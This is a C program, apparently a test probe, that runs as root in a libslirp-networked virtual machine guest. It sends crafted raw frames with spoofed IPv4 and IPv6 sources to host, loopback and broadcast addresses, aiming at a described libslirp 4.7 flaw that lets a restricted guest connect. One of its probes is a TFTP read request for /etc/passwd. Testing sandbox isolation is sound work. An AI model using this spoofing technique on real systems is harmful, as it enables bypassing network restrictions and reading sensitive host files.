/* SPDX-License-Identifier: MIT */
/*
 * sweep.c - a guest's root tries to reach whatever it should not
 *
 * For the guest: static, alone. It sends frames that no kernel would, each to one of many addresses
 * of the user network, of this host and of nobody, from sources of its own and from crafted ones:
 * libslirp 4.7 takes bytes of an IPv6 source for the IPv4 destination when it asks whether the
 * restricted guest may connect. Then it prints each kind of answer once: "ANSWER what from where".
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <netpacket/packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define TCP 6
#define UDP 17
#define ICMP 1
#define ICMP6 58
#define QUIET_MS 3000

static int sock;
static uint8_t own[6];
static unsigned int sent;

struct packet {
	uint8_t data[400];
	size_t len;
};

static uint32_t add(uint32_t sum, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		sum += (uint32_t)p[i] << (i % 2 ? 0 : 8);
	return sum;
}

static void put(uint8_t *to, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	to[0] = (uint8_t)(~sum >> 8);
	to[1] = (uint8_t)~sum;
}

static void transmit(const uint8_t *frame, size_t len)
{
	struct pollfd p = { sock, POLLOUT, 0 };

	if (poll(&p, 1, 1000) == 1 && send(sock, frame, len, 0) == (ssize_t)len)
		sent++;
	if (sent % 32 == 0)
		usleep(20000); /* the host has two processors and this queue an end */
}

/* An IP packet: addresses in network order, of 4 or 16 bytes. */
static void ip(size_t size, const uint8_t *from, const uint8_t *to, int protocol,
	       const struct packet *body)
{
	const size_t head = size == 4 ? 20 : 40, at = protocol == TCP ? 16 :
						      protocol == UDP ? 6 :
									2;
	uint8_t f[600] = { 0 }, *p = f + 14, *b = p + head;
	uint32_t sum;

	memcpy(f, "\x52\x55\x0a\x00\x02\x02", 6);
	memcpy(f + 6, own, 6);
	memcpy(f + 12, size == 4 ? "\x08\x00" : "\x86\xdd", 2);
	p[0] = size == 4 ? 0x45 : 0x60;
	if (size == 4) {
		p[2] = (uint8_t)((head + body->len) >> 8);
		p[3] = (uint8_t)(head + body->len);
		p[8] = 64;
		p[9] = (uint8_t)protocol;
		put(p + 10, add(add(add(0, p, 12), from, 4), to, 4));
	} else {
		p[5] = (uint8_t)body->len;
		p[6] = (uint8_t)protocol;
		p[7] = protocol == ICMP6 ? 255 : 64;
	}
	memcpy(p + head - 2 * size, from, size);
	memcpy(p + head - size, to, size);
	memcpy(b, body->data, body->len);
	b[at] = b[at + 1] = 0;
	sum = protocol == ICMP ? 0 :
				 add(add((uint32_t)(protocol + body->len), from, size), to, size);
	put(b + at, add(sum, b, body->len));
	transmit(f, 14 + head + body->len);
}

static struct packet tcp(unsigned int port)
{
	static uint16_t ours = 20000;
	struct packet p = { { 0 }, 20 };

	ours++;
	memcpy(p.data,
	       (uint8_t[]){ (uint8_t)(ours >> 8), (uint8_t)ours, (uint8_t)(port >> 8),
			    (uint8_t)port },
	       4);
	p.data[12] = 0x50;
	p.data[13] = 2; /* SYN */
	p.data[14] = 0x20;
	return p;
}

static struct packet udp(unsigned int port, const void *data, size_t n)
{
	static uint16_t ours = 40000;
	struct packet p = { { 0 }, 8 + n };

	ours++;
	memcpy(p.data,
	       (uint8_t[]){ (uint8_t)(ours >> 8), (uint8_t)ours, (uint8_t)(port >> 8),
			    (uint8_t)port, 0, (uint8_t)p.len },
	       6);
	memcpy(p.data + 8, data, n);
	return p;
}

/* A question for "a." and the names of two well-known services' messages. */
static const uint8_t dns[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01"
			     "a\x00\x00\x01\x00\x01";
static const uint8_t tftp[] = "\x00\x01/etc/passwd\x00octet";

static void all_of(size_t size, const uint8_t *from, const uint8_t *to, char **ports)
{
	struct packet echo = { { size == 4 ? 8 : 128 }, 16 };
	struct packet p;

	for (; *ports; ports++) {
		const unsigned int port = (unsigned int)atoi(*ports);

		p = tcp(port);
		ip(size, from, to, TCP, &p);
		p = udp(port, "x", 1);
		ip(size, from, to, UDP, &p);
	}
	p = udp(53, dns, sizeof(dns) - 1);
	ip(size, from, to, UDP, &p);
	p = tcp(53);
	ip(size, from, to, TCP, &p);
	p = udp(69, tftp, sizeof(tftp));
	ip(size, from, to, UDP, &p);
	ip(size, from, to, size == 4 ? ICMP : ICMP6, &echo);
}

static void ipv4(const char *text, char **ports)
{
	static const char *const sources[] = { "10.0.2.15", "10.0.2.4", "127.0.0.1", "0.0.0.0" };
	uint8_t from[4], to[4];

	for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++) {
		inet_pton(AF_INET, sources[i], from);
		inet_pton(AF_INET, text, to);
		all_of(4, from, to, ports);
	}
}

static void neighbour(const uint8_t *from, const uint8_t *to)
{
	struct packet p = { { 135 }, 24 }, router = { { 133 }, 8 };
	uint8_t all[16] = { 0xff, 2, [15] = 2 };

	memcpy(p.data + 8, to, 16);
	ip(16, from, to, ICMP6, &p);
	ip(16, from, all, ICMP6, &router);
}

/* A forwarded address of the guest's network at each place in the source. */
static void ipv6(const char *text, char **ports)
{
	static const char *const hidden[] = { "10.0.2.4", "10.0.2.100" };
	uint8_t from[16], to[16];

	inet_pton(AF_INET6, text, to);
	inet_pton(AF_INET6, "fec0::15", from);
	neighbour(from, to);
	all_of(16, from, to, ports);
	for (size_t i = 0; i < 2; i++)
		for (size_t at = 4; at <= 12; at += 4) {
			inet_pton(AF_INET6, "fec0::", from);
			inet_pton(AF_INET, hidden[i], from + at);
			neighbour(from, to);
			all_of(16, from, to, ports);
		}
}

static void say(const char *what, const char *from)
{
	static char seen[200][80];
	char text[80];
	size_t i = 0;

	snprintf(text, sizeof(text), "ANSWER %s from %s", what, from);
	while (i < 200 && seen[i][0] && strcmp(seen[i], text) != 0)
		i++;
	if (i == 200 || seen[i][0])
		return;
	snprintf(seen[i], sizeof(seen[i]), "%s", text);
	puts(text);
}

static void hear(const uint8_t *f, size_t len)
{
	char from[INET6_ADDRSTRLEN], what[60];
	const uint8_t *b = f + 34;

	if (len < 54 || memcmp(f + 6, own, 6) == 0)
		return;
	if (f[12] == 0x86 && f[13] == 0xdd) {
		inet_ntop(AF_INET6, f + 22, from, sizeof(from));
		snprintf(what, sizeof(what), "IPv6 protocol %d", f[20]);
		say(what, from);
	} else if (f[12] == 8 && f[13] == 0) {
		inet_ntop(AF_INET, f + 26, from, sizeof(from));
		if (f[23] == TCP && (b[13] & 0x12) == 0x12)
			snprintf(what, sizeof(what), "TCP port %d", b[0] << 8 | b[1]);
		else if (f[23] == UDP)
			snprintf(what, sizeof(what), "UDP port %d%s", b[0] << 8 | b[1],
				 b[9] == 3 ? " with data" : "");
		else if (f[23] == ICMP && b[0] == 0)
			snprintf(what, sizeof(what), "echo");
		else
			return;
		say(what, from);
	}
}

/* What has come, until nothing comes for this long. */
static void listen_for(int ms)
{
	struct pollfd p = { sock, POLLIN, 0 };
	uint8_t f[70000];
	ssize_t n;

	while (poll(&p, 1, ms) == 1 && (n = recv(sock, f, sizeof(f), 0)) > 0)
		hear(f, (size_t)n);
}

/* argv: comma-separated addresses of the host, then ports. */
int main(int argc, char **argv)
{
	static const char *const v4[] = { "10.0.2.2",	     "10.0.2.3",   "10.0.2.4",
					  "10.0.2.5",	     "10.0.2.100", "10.0.2.255",
					  "255.255.255.255", "127.0.0.1",  "127.0.0.2",
					  "127.0.0.53",	     "0.0.0.0",	   "224.0.0.1",
					  "239.255.0.1" };
	static const char *const v6[] = {
		"fec0::2",	 "fec0::3", "fec0::4",		"fec0::a00:204",
		"fec0::a00:264", "fe80::2", "ff02::1",		"ff02::2",
		"::1",		 "::",	    "::ffff:127.0.0.1", "::ffff:10.0.2.2",
		"::127.0.0.1"
	};
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	struct ifreq r = { .ifr_name = "eth0" };

	sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	to.sll_ifindex = (int)if_nametoindex("eth0");
	if (argc < 3 || sock < 0 || bind(sock, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    ioctl(sock, SIOCGIFHWADDR, &r) < 0) {
		puts("SWEEP cannot");
		return 1;
	}
	memcpy(own, r.ifr_hwaddr.sa_data, 6);
	for (size_t i = 0; i < sizeof(v4) / sizeof(v4[0]); i++) {
		ipv4(v4[i], argv + 2);
		listen_for(0);
	}
	for (size_t i = 0; i < sizeof(v6) / sizeof(v6[0]); i++) {
		ipv6(v6[i], argv + 2);
		listen_for(0);
	}
	for (char *save = NULL, *a = strtok_r(argv[1], ",", &save); a;
	     a = strtok_r(NULL, ",", &save)) {
		if (strchr(a, ':'))
			ipv6(a, argv + 2);
		else
			ipv4(a, argv + 2);
		listen_for(0);
	}
	listen_for(QUIET_MS);
	printf("SWEEP sent %u\n", sent);
	return 0;
}
